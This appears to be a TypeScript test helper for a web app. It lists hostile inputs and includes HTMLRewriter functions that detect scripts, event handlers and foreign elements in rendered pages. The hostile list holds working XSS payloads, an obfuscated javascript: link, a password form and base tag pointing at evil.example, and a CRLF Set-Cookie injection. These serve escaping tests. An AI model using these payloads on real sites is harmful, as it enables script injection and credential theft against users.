/** Texts that would run a script, end an element or an attribute, or change the page around them. */
export const hostile = [
  "<script>window.hacked=1</script>",
  '"><img src=x onerror="window.hacked=1">',
  "<svg/onload=window.hacked=1>",
  "</div></div></section></article></main><h1>end</h1>",
  "</script><script>window.hacked=1</script>",
  "<a href='java&Tab;script:window.hacked=1'>a</a>",
  "<iframe srcdoc='<script>1</script>'></iframe><style>*{display:none}</style><base href=//evil.example>",
  "<form action=//evil.example><input name=password></form><textarea>",
  "<!--<template><xmp><plaintext>",
  "\u2028\u0000{{7*7}}%00\r\nSet-Cookie: a=b",
];

/**
 * The names of the controls of a form that take any text. A test that writes into each of them compares its own list with
 * this one, so that a control that is added is written into as well.
 */
export async function textControls(html: string, form = ".item-form"): Promise<string[]> {
  const names = new Set<string>();
  const rewriter = new HTMLRewriter().on(`${form} textarea[name], ${form} input[name]`, {
    element(control) {
      const type = control.tagName === "textarea" ? "text" : (control.getAttribute("type") ?? "text");
      if (type === "text") names.add(control.getAttribute("name") ?? "");
    },
  });
  await rewriter.transform(new Response(html, { headers: { "content-type": "text/html" } })).text();
  return [...names];
}

interface Found {
  readonly scripts: number;
  readonly handlers: string[];
  readonly foreign: string[];
  readonly sections: number;
}

/** The elements of a page that could run or lead elsewhere, as a browser parses it. */
export async function inspect(html: string): Promise<Found> {
  const found = { scripts: 0, handlers: [] as string[], foreign: [] as string[], sections: 0 };
  const rewriter = new HTMLRewriter()
    .on("script", { element: () => void found.scripts++ })
    .on("section[data-section-id]", { element: () => void found.sections++ })
    .on("iframe, object, embed, base[href]:not([href='']), style:not([nonce])", {
      element: ({ tagName }) => void found.foreign.push(tagName),
    })
    .on("*", {
      element({ tagName, attributes }) {
        for (const [name = "", value = ""] of attributes) {
          if (/^on|^srcdoc$/i.test(name)) found.handlers.push(`${tagName} ${name}`);
          if (/^(?:href|src|action|formaction)$/i.test(name) && /^\s*(?:javascript|data:text)/i.test(value))
            found.handlers.push(`${tagName} ${value}`);
          if (name === "action" && value.includes("evil.example")) found.foreign.push(value);
        }
      },
    });
  await rewriter.transform(new Response(html, { headers: { "content-type": "text/html" } })).text();
  return found;
}
